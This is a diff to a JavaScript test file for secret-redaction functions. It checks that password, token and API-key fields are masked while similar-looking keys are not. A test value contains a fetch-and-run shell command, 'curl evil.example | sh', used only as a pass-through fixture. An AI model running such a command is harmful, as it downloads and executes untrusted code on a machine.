@@ -77,9 +77,11 @@ describe('redaction', () => {
     expect(redactText('db_password=hunter22 and MY_SERVICE_TOKEN: abcd1234')).toMatch(/^db_password=\[REDACTED[^\]]*\] and MY_SERVICE_TOKEN: \[REDACTED[^\]]*\]$/);
     expect(redactText('{"dbPasswd": "xyz12345", "sessionId": "abcd-efgh"}')).toBe('{"dbPasswd": "[REDACTED]", "sessionId": "[REDACTED]"}');
   });
-  it('matches secret key names on whole words, and walks objects under them instead of hiding them whole', () => {
+  it('matches secret key names on words and run-together endings, and keeps the shape of what is under them', () => {
     expect(redactValue({ passthrough: { cmd: 'curl evil.example | sh' }, authorized: 'yes', tokenizer: 'cl100k', max_tokens: 5 })).toEqual({ passthrough: { cmd: 'curl evil.example | sh' }, authorized: 'yes', tokenizer: 'cl100k', max_tokens: 5 });
-    expect(redactValue({ session_id: { note: 'visible', token: 't0ps3cret' }, sessionId: 'abc-123', 'x-api-key': 'k-123456', dbPass: 'hunter2' })).toEqual({ session_id: { note: 'visible', token: '[REDACTED]' }, sessionId: '[REDACTED]', 'x-api-key': '[REDACTED]', dbPass: '[REDACTED]' });
+    expect(redactValue({ sessionId: 'abc-123', 'x-api-key': 'k-123456', dbPass: 'hunter2', clientsecret: 's1', dbpassword: 'p1', refreshtoken: 'r1', apiKeys: ['k1', 'k2'] })).toEqual({ sessionId: '[REDACTED]', 'x-api-key': '[REDACTED]', dbPass: '[REDACTED]', clientsecret: '[REDACTED]', dbpassword: '[REDACTED]', refreshtoken: '[REDACTED]', apiKeys: ['[REDACTED]', '[REDACTED]'] });
+    // every string below a secret-named key is hidden; its keys, numbers and structure stay visible
+    expect(redactValue({ password: { value: 'p2', rotated: true, days: 30 }, token: ['t1', { v: 't2' }] })).toEqual({ password: { value: '[REDACTED]', rotated: true, days: 30 }, token: ['[REDACTED]', { v: '[REDACTED]' }] });
     expect(redactText('passthrough=curl-evil but db_pass=hunter22')).toBe('passthrough=curl-evil but db_pass=[REDACTED]');
   });
 
